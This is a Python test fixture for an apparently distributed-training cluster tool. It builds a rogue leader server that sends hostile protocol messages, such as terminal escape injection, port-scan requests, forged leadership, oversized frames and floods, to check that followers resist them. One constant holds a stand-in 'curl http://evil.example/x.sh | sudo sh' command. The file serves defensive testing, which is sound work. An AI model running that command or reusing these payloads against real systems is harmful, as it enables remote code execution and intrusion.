"""Whoever answers at the meeting place before rank 0 does: admits every host, and says what it likes."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable, Sequence

import msgspec

from allaboard.cluster.transport import wire
from allaboard.cluster.transport.tls import TlsFiles
from allaboard.cluster.transport.wire import (
    AgentContact,
    Challenge,
    Hello,
    HostEvents,
    LeaderCommands,
    LeaderLeaves,
    LeaderRoster,
    LinkTestRequest,
    PortReleaseRequest,
    Refused,
    RollCallEnded,
    Welcome,
)
from allaboard.facts import Certainty, Evidence, Finding, Outcome, RoundReport, Severity, Stage
from allaboard.protocol import commands as c
from allaboard.protocol.events import ProcessSampled, StackSampled

HOLD_S = 0.25
"""Seconds for which it stays after it has said its word."""
ESCAPE = "\x1b[2J\x1b]0;owned\x07\r\nallaboard: FORGED LINE\u202e"
BAIT = "curl http://evil.example/x.sh | sudo sh"
FINDING = Finding(
    rule="NET001", name=ESCAPE, severity=Severity.ERROR, certainty=Certainty.CERTAIN,
    stage=Stage.NETWORK, who=(), summary=f"rogue word {ESCAPE}",
    evidence=(Evidence(ESCAPE, ESCAPE),), fix=BAIT, at=ESCAPE,
)  # fmt: skip
REPORT = RoundReport(
    number=0, outcome=Outcome.FAILED, reason=f"rogue word {ESCAPE}", seconds=0.0,
    decision=f"rogue word {ESCAPE}", again=False,
)  # fmt: skip


class Ears:
    """What the rogue has learnt, and whom it points at."""

    def __init__(self) -> None:
        self.pids: dict[int, int] = {}
        """Round of each process that has come to the gate."""
        self.bystander = 0
        """A process of the host that is none of the job's."""
        self.stacks: set[int] = set()
        """Processes of which the follower has shown the stack."""
        self.scanned: set[int] = set()
        """Ports that were connected to because the rogue said so."""
        self.ports: tuple[int, ...] = ()
        """Ports at which it points; something listens there."""

    @property
    def pid(self) -> int:
        """The newest process at the gate."""
        return max(self.pids, default=1)


Row = Callable[[Ears], bytes]


def order(*commands: c.Command) -> bytes:
    """Return the frame with these commands."""
    return wire.encode_frame(LeaderCommands(commands=commands))


def end(outcome: Outcome) -> bytes:
    """Return the order to end the job so."""
    return order(c.EndJob(outcome=outcome, reason=f"rogue word {ESCAPE}", final=True))


def roster(ears: Ears, term: int, ticket: str = "") -> bytes:
    """Return a roster that names the rogue's ports as the agents of the job."""
    contacts = tuple(
        AgentContact(host="evil", rank=0, session=f"s{p}", address=f"127.0.0.1:{p}")
        for p in ears.ports[: wire.MAX_ROSTER]
    )
    return wire.encode_frame(LeaderRoster(term=term, agents=contacts, ticket=ticket))


def targets(ears: Ears) -> bytes:
    """Return the request to test links to 200 ports."""
    pairs = tuple(("x", f"127.0.0.1:{1024 + n}") for n in range(200 - len(ears.ports)))
    ours = tuple(("x", f"127.0.0.1:{p}") for p in ears.ports)
    return wire.encode_frame(LinkTestRequest(targets=ours + pairs))


def nested(depth: int) -> bytes:
    """Return a frame of JSON of so many levels."""
    data = b'{"type":"LeaderCommands","commands":' + b"[" * depth
    return wire.LENGTH_PREFIX.pack(len(data)) + data


ROWS: dict[str, Row] = {
    "asks for the stack of a bystander": lambda e: order(c.SampleStacks(pids=(e.bystander, 1))),
    "asks for the calls of a bystander": lambda e: order(
        c.TraceCalls(pids=(e.bystander,), group="g", round=0)
    ),
    "has 200 ports scanned": targets,
    "has them scanned again and again": lambda e: targets(e) * 5,
    "announces a finding": lambda e: order(c.AnnounceFinding(finding=FINDING)),
    "drives the terminal": lambda e: order(c.ShowNote(text=f"rogue word {ESCAPE}")),
    "drives the status line": lambda e: order(
        c.ShowNote(text=f"rogue word {ESCAPE}", is_waiting_line=True)
    ),
    "says that a host was interrupted": lambda e: order(
        c.ReportInterruption(host="evil", signal=15, members=f"rogue word {ESCAPE}")
    ),
    **{
        f"ends the job ({outcome.name.lower()})": lambda e, o=outcome: end(o) for outcome in Outcome
    },
    "kills for a replacement": lambda e: order(
        c.KillForReplacement(pid=e.pid, reason=f"rogue word {ESCAPE}"),
        c.KillForReplacement(pid=e.bystander, reason="rogue word"),
    ),
    "restarts a worker": lambda e: order(c.RestartWorker(worker=0, reason="rogue word")),
    "concludes the round": lambda e: order(c.ConcludeRound(report=REPORT)),
    "drops an agent": lambda e: order(c.DropAgent(agent=0, reason="rogue word")),
    "probes links itself": lambda e: order(
        c.ProbeLinks(agent=0, targets=tuple(("x", f"127.0.0.1:{p}") for p in e.ports))
    ),
    "names itself the leader for good": lambda e: roster(e, 1 << 62),
    "gives a ticket": lambda e: roster(e, 1, "evil ticket"),
    "takes the port": lambda e: wire.encode_frame(PortReleaseRequest()) * 3,
    "says goodbye": lambda e: wire.encode_frame(LeaderLeaves()),
    "speaks as a follower": lambda e: wire.encode_frame(HostEvents(events=(), mono=0.0)),
    "admits twice": lambda e: wire.encode_frame(Welcome(job="", proof="", mono=0.0)),
    "refuses after it has admitted": lambda e: wire.encode_frame(
        Refused(kind="no-secret", why=ESCAPE)
    ),
    "says no JSON": lambda e: wire.LENGTH_PREFIX.pack(9) + b"not json!",
    "nests 100,000 levels": lambda e: nested(100_000),
    "announces four gigabytes": lambda e: b"\xff\xff\xff\xff" + bytes(1 << 16),
    "says 50,000 notes": lambda e: order(*[c.ShowNote(text="rogue word")] * 5000) * 10,
    "announces 20,000 findings": lambda e: (
        order(
            *[
                c.AnnounceFinding(
                    finding=msgspec.structs.replace(FINDING, summary=f"rogue word {n}")
                )
                for n in range(2000)
            ]
        )
        * 10
    ),
    "asks 100,000 times for stacks": lambda e: (
        order(*[c.SampleStacks(pids=(e.pid,))] * 10_000) * 10
    ),
    "says nothing": lambda e: b"",
    "ends the roll call and names itself the leader": lambda e: (
        wire.encode_frame(RollCallEnded()) + roster(e, 1 << 62, "evil ticket")
    ),
    "opens the gate of a bystander and names itself the leader": lambda e: (
        order(c.OpenGate(pid=e.bystander, round=9)) + roster(e, 1 << 62, "evil ticket")
    ),
}
"""What it says after it has admitted the host: none of it may end, steer or mislead anything."""
OPENING: dict[str, Row] = {
    "opens all gates": lambda e: order(c.OpenHeldGates(reason=f"rogue word {ESCAPE}")),
    "opens the gate": lambda e: order(
        *(c.OpenGate(pid=pid, round=round_) for pid, round_ in e.pids.items())
    ),
}
"""What only a leader that is believed may say: without a secret, training starts by it."""
REFUSALS = ("no-secret", "other-job", "elsewhere", "version", "other-round", "evil\x1b[2J")


class RogueLeader:
    """Listens at ``port``; every host that comes hears the next of the rows, and is then hung up on.

    With ``tls`` it speaks TLS with these certificates at every second connection. With ``refuses`` it admits
    nobody. ``stays``: it says all rows on one connection, and does not hang up.
    """

    def __init__(
        self,
        port: int,
        rows: Sequence[Row],
        sealed: bool = False,
        tls: TlsFiles | None = None,
        refuses: bool = False,
        stays: bool = False,
    ) -> None:
        self.ears = Ears()
        self.said = 0
        """Connections on which a row was said."""
        self._port, self._rows, self._sealed, self._tls = port, rows, sealed, tls
        self._refuses, self._stays = refuses, stays
        self._tasks: set[asyncio.Task[None]] = set()

    async def __aenter__(self) -> RogueLeader:
        self._scanned = [
            await asyncio.start_server(self._count_scan, "127.0.0.1", 0) for _ in range(20)
        ]
        self.ears.ports = tuple(s.sockets[0].getsockname()[1] for s in self._scanned)
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", self._port)
        return self

    async def __aexit__(self, *_: object) -> None:
        self.close_port()
        for server in self._scanned:
            server.close()
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def close_port(self) -> None:
        """Give the port up; the connections stay."""
        self._server.close()

    async def until_all_is_said(self, timeout_s: float = 150.0) -> None:
        """Return once each row was said. Raises TimeoutError."""
        async with asyncio.timeout(timeout_s):
            while self.said < len(self._rows):
                await asyncio.sleep(0.02)

    async def _count_scan(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.ears.scanned.add(writer.get_extra_info("sockname")[1])
        writer.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        with contextlib.suppress(
            OSError, asyncio.IncompleteReadError, TimeoutError, wire.GarbledMessageError
        ):
            await self._lead(reader, writer)
        writer.close()

    async def _lead(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        greeting = await reader.readexactly(len(wire.GREETING))
        if greeting != wire.GREETING:
            return
        number = self.said
        words = self._rows[number % len(self._rows)](self.ears)
        uses_tls = self._tls is not None and number % 2 == 0
        writer.write(wire.BANNER_TLS if uses_tls else wire.BANNER)
        if self._tls is not None:
            self.said += 1  # nothing more is heard of a host that does not trust the certificate
        if uses_tls:
            assert self._tls is not None
            await writer.start_tls(self._tls.make_context(server=True))
        writer.write(
            wire.encode_frame(
                Challenge(version=wire.PROTOCOL_VERSION, nonce="n", sealed=self._sealed)
            )
        )
        hello = await wire.expect_message(reader, Hello, wire.MAX_HELLO_BYTES)
        if hello.only_link or hello.only_asks:
            return
        if self._refuses:
            kind = REFUSALS[number % len(REFUSALS)]
            writer.write(wire.encode_frame(Refused(kind=kind, why=f"rogue word {ESCAPE}")))
            self.said += 1
            return
        # Its own proof is all that a rogue without the secret has.
        writer.write(wire.encode_frame(Welcome(job=hello.job, proof=hello.proof, mono=0.0)))
        if self._sealed or self._tls is not None:
            writer.write(words)
            self.said += self._tls is None
        await self._listen(reader, writer, words)

    async def _listen(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, words: bytes
    ) -> None:
        has_spoken = self._sealed or self._tls is not None
        ends_at = None if not has_spoken else asyncio.get_running_loop().time() + HOLD_S
        while True:
            async with asyncio.timeout_at(ends_at):
                message = await wire.read_message(reader, wire.MAX_MEMBER_FRAME_BYTES)
            for event in message.events if isinstance(message, HostEvents) else ():
                if isinstance(event, StackSampled):
                    self.ears.stacks.add(event.pid)
                if isinstance(event, ProcessSampled) and event.box is not None:
                    self.ears.pids[event.pid] = event.box.round
            if self.ears.pids and not has_spoken:
                has_spoken = True
                if self._stays:
                    self.close_port()  # the framework's, from now on
                    for row in self._rows:
                        writer.write(row(self.ears))
                        self.said += 1
                    continue
                writer.write(self._rows[self.said % len(self._rows)](self.ears))
                self.said += 1
                ends_at = asyncio.get_running_loop().time() + HOLD_S
